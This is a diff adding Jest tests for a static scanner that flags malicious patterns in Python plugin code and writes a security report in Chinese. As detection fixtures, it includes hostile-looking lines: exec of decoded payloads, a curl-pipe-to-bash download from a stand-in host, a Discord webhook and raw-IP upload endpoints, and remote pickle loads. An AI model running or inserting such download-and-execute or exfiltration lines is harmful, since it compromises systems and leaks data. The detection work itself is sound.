@@ -0,0 +1,162 @@
+import { describe, it, expect } from "@jest/globals";
+import {
+  hasHighSeverityRisk,
+  renderSecurityRiskSection,
+  scanSecurityRisks,
+} from "../reviewer/security-scan.js";
+
+function scan(...lines) {
+  return scanSecurityRisks([{ path: "main.py", source: lines.join("\n") }]);
+}
+
+function ruleHits(findings) {
+  return findings.map((f) => [f.ruleId, f.severity, f.lineStart]);
+}
+
+describe("scanSecurityRisks", () => {
+  it("returns nothing for ordinary plugin code", () => {
+    expect(
+      scan(
+        "import json",
+        "import aiohttp",
+        "async def fetch(url):",
+        "    async with aiohttp.ClientSession() as session:",
+        "        async with session.get(url) as resp:",
+        "            return json.loads(await resp.text())"
+      )
+    ).toEqual([]);
+  });
+
+  it("flags decoded payloads passed to exec or eval", () => {
+    expect(
+      ruleHits(
+        scan(
+          "import base64, zlib",
+          "exec(zlib.decompress(base64.b64decode(data)))",
+          "eval(bytes.fromhex(code).decode())"
+        )
+      )
+    ).toEqual([
+      ["obfuscated-exec", "critical", 2],
+      ["obfuscated-exec", "critical", 3],
+    ]);
+  });
+
+  it("flags marshal loads", () => {
+    expect(ruleHits(scan("import marshal", "code = marshal.loads(blob)"))).toEqual([
+      ["obfuscated-exec", "high", 2],
+    ]);
+  });
+
+  it("flags download-then-execute patterns", () => {
+    expect(
+      ruleHits(
+        scan(
+          "import requests",
+          "exec(requests.get(URL).text)",
+          'os.system("curl -s http://x.example/a.sh | bash")'
+        )
+      )
+    ).toEqual([
+      ["download-exec", "critical", 2],
+      ["download-exec", "critical", 3],
+    ]);
+  });
+
+  it("flags shell commands, escalating when strings are interpolated", () => {
+    expect(
+      ruleHits(
+        scan(
+          'os.system("clear")',
+          'subprocess.run(f"ffmpeg -i {path}", shell=True)'
+        )
+      )
+    ).toEqual([
+      ["shell-command", "medium", 1],
+      ["shell-command", "high", 2],
+    ]);
+  });
+
+  it("flags credential reads and exfiltration endpoints", () => {
+    expect(
+      ruleHits(
+        scan(
+          'cfg = open("data/cmd_config.json").read()',
+          'WEBHOOK = "https://discord.com/api/webhooks/1/abc"',
+          'SERVER = "http://45.12.3.4:8080/upload"'
+        )
+      )
+    ).toEqual([
+      ["credential-access", "high", 1],
+      ["exfiltration-endpoint", "high", 2],
+      ["exfiltration-endpoint", "medium", 3],
+    ]);
+  });
+
+  it("flags pickle loads of remote data", () => {
+    expect(
+      ruleHits(
+        scan(
+          "import pickle, requests",
+          "obj = pickle.loads(requests.get(URL).content)",
+          "cache = pickle.load(f)"
+        )
+      )
+    ).toEqual([
+      ["remote-pickle", "critical", 2],
+      ["remote-pickle", "high", 3],
+    ]);
+  });
+
+  it("does not flag local pickle usage", () => {
+    expect(scan("import pickle", "cache = pickle.load(f)")).toEqual([]);
+  });
+
+  it("flags runtime dependency installation", () => {
+    expect(
+      ruleHits(scan('subprocess.check_call([sys.executable, "-m", "pip", "install", "foo"])'))
+    ).toEqual([["runtime-install", "medium", 1]]);
+  });
+
+  it("grades long encoded blobs by the presence of dynamic execution", () => {
+    const blob = `"${"QUJD".repeat(60)}"`;
+    expect(ruleHits(scan(`ICON = ${blob}`))).toEqual([["encoded-blob", "low", 1]]);
+    expect(
+      ruleHits(scan(`PAYLOAD = ${blob}`, "exec(compile(src, 'x', 'exec'))"))
+    ).toEqual([["encoded-blob", "high", 1]]);
+  });
+
+  it("ignores matches in comments and docstrings", () => {
+    expect(
+      scan('"""', "os.system(cmd)", '"""', "# exec(base64.b64decode(x))")
+    ).toEqual([]);
+  });
+});
+
+describe("hasHighSeverityRisk", () => {
+  it("is true only for critical or high findings", () => {
+    expect(hasHighSeverityRisk([{ severity: "medium" }])).toBe(false);
+    expect(hasHighSeverityRisk([{ severity: "high" }])).toBe(true);
+    expect(hasHighSeverityRisk([])).toBe(false);
+  });
+});
+
+describe("renderSecurityRiskSection", () => {
+  const linkOptions = { owner: "o", repo: "r", commitSha: "abc" };
+
+  it("renders a clean result", () => {
+    expect(renderSecurityRiskSection([], linkOptions)).toContain(
+      "✅ 未发现可疑的恶意代码或供应链风险特征"
+    );
+  });
+
+  it("lists risks ordered by severity with line links", () => {
+    const section = renderSecurityRiskSection(
+      scan('os.system("clear")', "exec(base64.b64decode(x))"),
+      linkOptions
+    );
+    expect(section).toContain("### 🛡️ 安全风险");
+    expect(section).toContain("静态扫描发现 2 处可疑代码");
+    expect(section.indexOf("main.py#L2")).toBeLessThan(section.indexOf("main.py#L1"));
+  });
+});